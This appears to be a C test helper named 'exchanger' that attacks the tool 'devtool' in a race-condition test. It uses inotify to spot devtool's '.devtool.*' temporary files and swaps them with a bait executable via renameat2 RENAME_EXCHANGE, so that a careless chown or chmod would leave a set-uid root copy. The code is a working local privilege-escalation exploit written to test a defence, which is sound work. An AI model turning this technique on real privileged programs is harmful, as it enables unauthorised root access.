/*
 * exchanger - the attacker of issue 8, hole 1 (tests/race.bats): a user
 * who can write the directory where devtool makes its temporaries.
 *
 * usage: exchanger DIR BAIT STATE SECONDS
 *
 * Watches DIR with inotify.  On each new entry named .devtool.*, swaps it
 * (renameat2 RENAME_EXCHANGE) with a copy of the file BAIT that it made in
 * DIR beforehand (bait.N, mode 0755): were devtool to chown, chmod or
 * rename whatever is at its temporary name, the copy would become
 * set-uid root.  A new .devtool.* directory is also watched, if the
 * kernel lets this user read it, and what appears inside it is swapped
 * the same way.  See attack.h for STATE and SECONDS.
 *
 * Prints: seen (.devtool.* entries noticed), swapped (exchanges done),
 * entered (directories it could watch), denied (those it could not).
 */
#include <sys/inotify.h>
#include <sys/stat.h>

#include <dirent.h>
#include <errno.h>
#include <limits.h>
#include <string.h>

#include "attack.h"

#define MAX_WATCH 256
#define BAIT_MAX (4 << 20)

static struct {
	int wd;
	int dirfd;
} watches[MAX_WATCH];
static int nwatch;

static int dirfd_main;
static char *bait;
static size_t bait_len;
static unsigned long serial, seen, swapped, entered, denied;
static char spare[32];	/* the next bait's name in DIR; "" if none */

static void
load_bait(const char *path)
{
	FILE *f = fopen(path, "rb");

	if (f == NULL)
		err(2, "%s", path);
	if ((bait = malloc(BAIT_MAX)) == NULL)
		err(2, "malloc");
	bait_len = fread(bait, 1, BAIT_MAX, f);
	if (ferror(f) || bait_len == 0 || bait_len == BAIT_MAX)
		errx(2, "%s: unreadable, empty or too large", path);
	(void)fclose(f);	/* read only: nothing to lose */
}

/* Makes the next copy of the bait, so that a swap needs one syscall. */
static void
make_spare(void)
{
	int fd;

	snprintf(spare, sizeof(spare), "bait.%lu", serial++);
	fd = openat(dirfd_main, spare, O_WRONLY | O_CREAT | O_EXCL |
	    O_CLOEXEC, 0755);
	if (fd < 0 || write(fd, bait, bait_len) != (ssize_t)bait_len) {
		warn("%s", spare);
		spare[0] = '\0';
	}
	if (fd >= 0)
		close(fd);
}

static void
add_watch(int ifd, int dirfd, const char *name)
{
	char path[64];
	int fd, wd;

	if (nwatch == MAX_WATCH)
		return;
	fd = openat(dirfd, name, O_RDONLY | O_DIRECTORY | O_NOFOLLOW |
	    O_CLOEXEC);
	if (fd < 0) {
		denied++;
		return;
	}
	snprintf(path, sizeof(path), "/proc/self/fd/%d", fd);
	wd = inotify_add_watch(ifd, path, IN_CREATE | IN_MOVED_TO |
	    IN_ONLYDIR);
	if (wd < 0) {
		denied++;
		close(fd);
		return;
	}
	entered++;
	watches[nwatch].wd = wd;
	watches[nwatch++].dirfd = fd;
}

static int
watch_dir(int wd)
{
	for (int i = 0; i < nwatch; i++)
		if (watches[i].wd == wd)
			return watches[i].dirfd;
	return -1;
}

static void
swap(int dirfd, const char *name)
{
	if (spare[0] == '\0')
		make_spare();
	if (spare[0] == '\0')
		return;
	if (renameat2(dirfd_main, spare, dirfd, name, RENAME_EXCHANGE) == 0) {
		swapped++;
		make_spare();
	}
}

/* Inside a directory it could enter, everything is worth a swap. */
static void
swap_all_in(int dirfd)
{
	int fd = dup(dirfd);
	DIR *d = fd < 0 ? NULL : fdopendir(fd);
	struct dirent *e;

	if (d == NULL)
		return;
	while ((e = readdir(d)) != NULL)
		if (strcmp(e->d_name, ".") != 0 && strcmp(e->d_name, "..") != 0)
			swap(dirfd, e->d_name);
	closedir(d);
}

static void
on_event(const struct inotify_event *ev, void *ctx)
{
	int ifd = *(const int *)ctx;
	int dirfd = watch_dir(ev->wd);

	if (dirfd < 0 || ev->len == 0)
		return;
	if (dirfd != dirfd_main) {
		swap(dirfd, ev->name);
		return;
	}
	/* Its own swaps show as moves: only creations are devtool's. */
	if (!(ev->mask & IN_CREATE) || strncmp(ev->name, ".devtool.", 9) != 0)
		return;
	seen++;
	if (ev->mask & IN_ISDIR) {
		int before = nwatch;

		add_watch(ifd, dirfd, ev->name);
		if (nwatch > before)
			swap_all_in(watches[before].dirfd);
	}
	swap(dirfd, ev->name);
}

int
main(int argc, char *argv[])
{
	struct attack a;
	int ifd;

	if (argc != 5)
		errx(2, "usage: exchanger DIR BAIT STATE SECONDS");
	attack_begin(&a, argv[3], argv[4]);
	load_bait(argv[2]);
	if ((ifd = inotify_init1(IN_NONBLOCK | IN_CLOEXEC)) < 0)
		err(2, "inotify_init1");
	if ((dirfd_main = open(argv[1], O_RDONLY | O_DIRECTORY |
	    O_CLOEXEC)) < 0)
		err(2, "%s", argv[1]);
	watches[0].wd = inotify_add_watch(ifd, argv[1], IN_CREATE |
	    IN_MOVED_TO | IN_ONLYDIR);
	if (watches[0].wd < 0)
		err(2, "inotify_add_watch %s", argv[1]);
	watches[0].dirfd = dirfd_main;
	nwatch = 1;
	make_spare();
	attack_ready(&a);
	attack_watch(&a, ifd, on_event, &ifd);
	printf("seen=%lu\nswapped=%lu\nentered=%lu\ndenied=%lu\n", seen,
	    swapped, entered, denied);
	return 0;
}
